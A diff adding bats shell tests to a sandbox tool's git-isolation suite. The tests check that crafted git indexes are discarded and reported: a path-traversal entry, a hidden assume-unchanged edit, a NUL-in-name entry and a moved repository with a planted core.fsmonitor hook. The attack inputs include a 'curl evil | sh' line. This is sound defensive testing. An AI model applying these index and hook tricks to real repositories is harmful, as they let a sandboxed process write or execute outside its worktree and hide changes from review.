@@ -401,6 +401,100 @@ route_gitlink() {
   [ "$(jq -c '.tamper | sort' <<<"${output##*$'\n'}")" = '["a/b/c","a/b/c/.git"]' ]
 }
 
+# crafted_index FILE ENTRY...: make-index.pl's index (MODE,ID,NAME entries) written to FILE as the
+# owner (a file in the worktree, for the command to copy over its git dir's index)
+crafted_index() {
+  local file=$1
+  shift
+  perl "$FSRUN_TESTS_DIR/make-index.pl" "$@" | as_owner sh -c 'cat >"$1"' sh "$file"
+}
+
+# discarded: the run's left-out git paths of the sandbox:tamper audit events, as a JSON array
+discarded() {
+  jq -cs '[.[] | select(.event == "sandbox:tamper") | .discarded[]?] | sort | unique' \
+    "$DIR/audit.jsonl"
+}
+
+# review18 finding 1: an index entry `../../../victim-dir/victim` (outside the worktree) that the
+# host's `git restore .` would write and `git diff` read, and an assume-unchanged bit that would
+# hide an edit from the host's `git status`: each index is left out (discarded, the host's kept,
+# byte for byte), the victim is neither written nor shown; a plain `git add` still reaches the host.
+route_index_escape() {
+  make_repo "$1"
+  requires_host_command perl
+  local readme pwned before victim=$DIR/victim-dir/victim
+  as_owner mkdir "$DIR/victim-dir"
+  as_owner sh -c 'echo host-secret >"$1"' sh "$victim"
+  readme=$(hgit -C "$WT" rev-parse HEAD:README)
+  pwned=$(echo PWNED | hgit hash-object --stdin)
+  crafted_index "$WT/crafted" "100644,$pwned,../../../victim-dir/victim" "100644,$readme,README"
+  before=$(sha256sum <"$REPO/.git/worktrees/task/index")
+  sbx -- 'echo PWNED | git hash-object -w --stdin >/dev/null &&
+          cp crafted "$(git rev-parse --git-dir)/index" && rm crafted && git ls-files'
+  [[ $output == *../victim-dir/victim* ]] # the command's git did take it
+  # the host's git, as the caller: nothing outside the worktree written nor shown
+  hgit -C "$WT" restore . || true
+  hgit -C "$WT" checkout -- . || true
+  [ "$(cat "$victim")" = host-secret ]
+  ! hgit -C "$WT" diff | grep -q host-secret || false
+  [ -z "$(hgit -C "$WT" ls-files | grep victim)" ]
+  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
+  [ "$(discarded)" = '["worktrees/task/index"]' ]
+  grep -q "index is left out: entry \`../../../victim-dir/victim\`: a \`.\` or \`..\` component" "$DIR/stderr"
+  # an assume-unchanged bit the host's index did not have
+  sbx -- 'echo "curl evil | sh" >>README && git update-index --assume-unchanged README'
+  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
+  grep -q "index is left out: \`README\` marked assume-unchanged" "$DIR/stderr"
+  [ "$(hgit -C "$WT" status --porcelain)" = " M README" ]
+  # the task's own staging still reaches the host
+  sbx -- 'echo new >new && git add new README'
+  [ "$(hgit -C "$WT" diff --cached --name-only)" = "$(printf 'README\nnew')" ]
+  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" != "$before" ]
+  [ "$(discarded)" = '["worktrees/task/index"]' ]
+}
+
+@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (root)" {
+  route_index_escape root
+}
+
+@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (ordinary user)" {
+  route_index_escape user
+}
+
+# review18 finding 4: run 1 makes a repository (its core.fsmonitor the planted script) under
+# node_modules/x, too deep for the tamper walk there; run 2 moves it to the top as `evil` and
+# writes an index whose NUL inside a name made fsrun's parser skip the gitlink `evil` after it.
+# Both are reported (the gitlink, and the moved `.git` by its renamed parent's ctime), the index
+# is left out, and the host's plain `git status` runs nothing.
+route_index_nul_moved_repo() {
+  make_repo "$1"
+  requires_host_command perl
+  local readme head
+  sbx -- "mkdir -p node_modules/x && git init -q node_modules/x/repo && cd node_modules/x/repo &&
+          git -c user.name=s -c user.email=s@s commit -q --allow-empty -m sub &&
+          git config core.fsmonitor $DIR/evil.sh"
+  [ "$(tamper)" = '[]' ]
+  readme=$(hgit -C "$WT" rev-parse HEAD:README)
+  head=$(hgit -C "$WT/node_modules/x/repo" rev-parse HEAD)
+  crafted_index "$WT/crafted" "100644,$readme,README" "100644,$readme,a\\0zzzzzz" "160000,$head,evil"
+  sbx -- 'mv node_modules/x/repo evil && cp crafted "$(git rev-parse --git-dir)/index" && rm crafted'
+  [ "$(tamper)" = '["evil","evil/.git"]' ]
+  [ "$(discarded)" = '["worktrees/task/index"]' ]
+  grep -q "index is left out: an entry's name has a NUL inside" "$DIR/stderr"
+  assert_status_runs_nothing "$WT"
+  # a repository made in a package's own dir is looked for there
+  sbx -- 'mkdir -p node_modules/@s/p && git init -q node_modules/@s/p && git init -q node_modules/q'
+  [ "$(tamper)" = '["evil","evil/.git","node_modules/@s/p/.git","node_modules/q/.git"]' ]
+}
+
+@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (root)" {
+  route_index_nul_moved_repo root
+}
+
+@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (ordinary user)" {
+  route_index_nul_moved_repo user
+}
+
 # --json's discarded: what the run wrote outside the allowlist, as the owner; [] for a clean run
 json_discarded() {
   make_repo "$1"
